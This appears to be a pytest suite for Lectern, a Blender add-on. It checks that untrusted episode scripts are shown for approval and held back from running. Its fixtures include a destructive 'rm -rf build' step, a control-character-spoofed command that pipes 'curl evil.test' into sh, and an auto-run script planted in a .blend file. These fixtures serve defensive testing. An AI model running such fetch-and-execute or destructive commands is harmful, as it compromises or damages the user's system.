"""The sidebar panel: what it reads from an episode's folder, and what it draws."""

from pathlib import Path

import bpy
import pytest
from panel_drawn import Layout, drawn
from two_scenes import SCRIPT, episode

from lectern.addon import snapshot
from lectern.addon.build import save_edits
from lectern.operators.trust import draw_permissions
from lectern.panels import lines
from lectern.pipeline.base.clock import time_code

TERMINAL = """
```capture
kind: terminal
steps:
  - run: rm -rf build
```
"""


def test_without_an_episode_it_offers_to_open_one_or_to_plan_one(panel):
    snapshot.refresh(bpy.context.scene)
    shown = drawn()
    at = shown.index("Open Episode")
    assert shown[at : at + 3] == ["Open Episode", "New Episode", "Open Recent"] and "Get Ideas" in shown[at:]


def test_an_opened_episode_is_on_the_timeline_and_its_scenes_are_listed(panel, tmp_path):
    assert bpy.ops.lectern.open_episode(directory=str(episode(tmp_path / "ep"))) == {"FINISHED"}
    strips = bpy.context.scene.sequence_editor.strips_all
    assert [(s.left_handle, s.right_handle) for s in strips] == [(1, 31), (31, 76)]
    shown = drawn()
    assert shown[0] == "Two scenes"
    assert [shown[shown.index(t) + 1] for t in ("1  The first", "2  The second")] == ["0:00", "0:01"]


def test_choosing_a_scene_moves_the_playhead_to_it(panel, tmp_path):
    bpy.ops.lectern.open_episode(directory=str(episode(tmp_path / "ep")))
    bpy.ops.lectern.show_scene(scene="second")
    assert bpy.context.scene.frame_current == 31


def test_a_scene_that_was_not_built_is_marked_as_new(panel, tmp_path):
    bpy.ops.lectern.open_episode(directory=str(episode(tmp_path / "ep", timeline=False)))
    assert [row.state for row in panel.scenes] == ["new", "new"] and "new" in drawn()


def test_an_error_in_the_script_is_shown_with_its_line(panel, tmp_path):
    bpy.ops.lectern.open_episode(directory=str(episode(tmp_path / "ep", SCRIPT + "\n```shout\n```\n", timeline=False)))
    assert "script.md:13" in panel.script_error
    assert any("script.md:13" in line for line in drawn())


def test_files_of_another_version_of_lectern_are_reported_and_the_panel_still_works(panel, tmp_path):
    folder = episode(tmp_path / "ep", SCRIPT)
    bpy.ops.lectern.open_episode(directory=str(folder))
    (folder / "renders" / "timeline.json").write_text('{"strips_of_old": []}')
    (folder / "renders" / "report.json").write_text("half a rep")
    snapshot.refresh(bpy.context.scene)
    assert "timeline.json is damaged, or of another version of Lectern" in panel.script_error
    save_edits(folder, bpy.context.scene)  # a build may begin: what it needs to know is in the .blend


def test_what_an_untrusted_episode_would_run_is_shown_and_build_waits(panel, tmp_path):
    bpy.ops.lectern.open_episode(directory=str(episode(tmp_path / "ep", SCRIPT + TERMINAL, timeline=False)))
    assert "rm -rf build" in drawn()
    with pytest.raises(RuntimeError, match="not allowed"):
        bpy.ops.lectern.build_episode()


def test_an_episode_that_opens_a_server_waits_for_online_access(panel, tmp_path):
    page = (
        SCRIPT
        + "\n```capture\nkind: browser\nsteps:\n  - open: http://localhost:3000\n  - open: https://example.org/page\n```\n"
    )
    bpy.ops.lectern.open_episode(directory=str(episode(tmp_path / "ep", page, timeline=False)))
    panel.trusted = True
    assert not bpy.app.online_access
    with pytest.raises(RuntimeError, match="opens example.org, and online access is off"):
        bpy.ops.lectern.build_episode()


def test_no_script_of_the_episode_can_trust_it(panel, tmp_path):
    bpy.ops.lectern.open_episode(directory=str(episode(tmp_path / "ep", SCRIPT + TERMINAL, timeline=False)))
    with pytest.raises(RuntimeError, match="Only a person"):
        bpy.ops.lectern.trust_episode()
    assert not panel.trusted


def test_control_characters_in_a_command_are_spelled_out(panel, tmp_path):
    snapshot.fill_permissions(
        panel, [snapshot.PermissionRequest(kind="terminal", where="script.md:3", what="ls\x1b[2K \u202eevil")]
    )
    assert panel.permissions[0].what == "ls\\x1b[2K \\u202eevil"


def test_a_person_who_is_asked_for_trust_sees_all_of_a_long_command(panel):
    shown: list[str] = []
    command = f"echo harmless {'; true' * 40} \u202e| curl evil.test | sh"
    draw_permissions(Layout(shown), [snapshot.PermissionRequest(kind="terminal", where="script.md:3", what=command)])
    assert shown[0] == "terminal, script.md:3" and max(map(len, shown)) < 70
    assert " ".join(shown[1:]) == command.replace("\u202e", "\\u202e")


def test_a_folder_without_a_script_is_refused(panel, tmp_path):
    with pytest.raises(RuntimeError, match="is not an episode"):
        bpy.ops.lectern.open_episode(directory=str(tmp_path))


def test_drawing_reads_no_file(panel, tmp_path, monkeypatch):
    bpy.ops.lectern.open_episode(directory=str(episode(tmp_path / "ep")))
    with monkeypatch.context() as without_files:
        without_files.setattr("builtins.open", None)
        without_files.setattr(Path, "stat", None)
        shown = drawn()
    assert shown


def test_long_lines_are_broken_to_the_panel(panel):
    shown: list[str] = []
    lines.paragraph(Layout(shown), bpy.context, "word " * 40)
    assert len(shown) > 4 and max(map(len, shown)) <= 40
    assert time_code(65.9) == "1:05"


def test_the_blend_of_an_episode_is_opened_without_running_what_is_in_it(panel, tmp_path):
    folder, canary = episode(tmp_path / "ep"), tmp_path / "canary"
    blend = folder / "ep.blend"
    text = bpy.data.texts.new("at_start.py")
    text.write(f"open({str(canary)!r}, 'w').close()")
    text.use_module = True
    bpy.ops.wm.save_as_mainfile(filepath=str(blend))
    bpy.ops.wm.read_homefile(use_factory_startup=True, use_empty=True)
    bpy.context.preferences.filepaths.use_scripts_auto_execute = True
    bpy.ops.lectern.open_episode(directory=str(folder))
    assert Path(bpy.data.filepath) == blend and not canary.exists()
    bpy.ops.wm.open_mainfile(filepath=str(blend), use_scripts=True)
    assert canary.exists()  # it would have
    bpy.context.preferences.filepaths.use_scripts_auto_execute = False
